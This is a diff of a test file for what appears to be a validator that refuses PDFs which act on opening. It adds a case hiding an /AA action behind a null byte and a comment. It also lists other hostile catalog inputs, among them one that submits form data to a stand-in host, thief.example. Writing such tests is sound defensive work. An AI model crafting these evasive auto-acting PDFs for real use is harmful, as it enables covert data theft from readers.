@@ -58,6 +58,7 @@ describe("a PDF that acts when it is opened is refused", () => {
     ["with a spelled name", pdf({ catalog: `/Open#41ction ${uri}` })],
     ["by printing", pdf({ catalog: "/OpenAction << /S /Named /N /Print >>" })],
     ["by what a page does", pdf({ catalog: `/AA << /O ${uri} >>` })],
+    ["by what a page does, behind a zero and a comment", pdf({ catalog: `/AA\0%\n<< /O ${uri} >>` })],
     ["by a form that is sent", pdf({ catalog: "/OpenAction << /S /SubmitForm /F (https://thief.example) >>" })],
     ["by a file elsewhere", pdf({ catalog: "/OpenAction << /S /GoToR /F (a.pdf) /D [0] >>" })],
   ])("%s", async (_, bytes) => {
